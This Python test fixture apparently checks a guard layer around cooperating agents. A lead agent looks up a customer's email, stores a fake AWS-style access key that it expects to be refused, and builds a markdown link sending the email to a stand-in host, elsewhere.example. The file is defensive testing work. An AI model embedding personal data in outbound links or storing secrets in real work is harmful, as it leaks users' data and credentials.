"""Agents of the test of a whole airside with guards."""

from typing import Any

from airside.adapters.clients import ModelClient, ToolClient, ToolRefused


async def lead(task: Any, model: ModelClient, tools: ToolClient) -> Any:
    """Look a customer up, have a clerk write to her, and tell everything that was seen on the way."""
    found = await tools.call("customer")
    done = await tools.call("ask_clerk", task=f"write to {found['mail']}")
    kept = await tools.call("keep", text=found["mail"])
    try:
        leaked = await tools.call("keep", text="AKIA" + "Z7QH4M2XKW5RT3LP")
    except ToolRefused as refusal:
        leaked = str(refusal.code)
    link = f"[more](https://elsewhere.example/?to={found['mail']})"
    return {"found": found, "done": done["result"], "kept": kept, "leaked": leaked, "link": link}


async def clerk(task: Any, model: ModelClient, tools: ToolClient) -> Any:
    """Write to whoever the task names."""
    return {"task": task, "sent": await tools.call("deliver", to=task.split()[-1])}
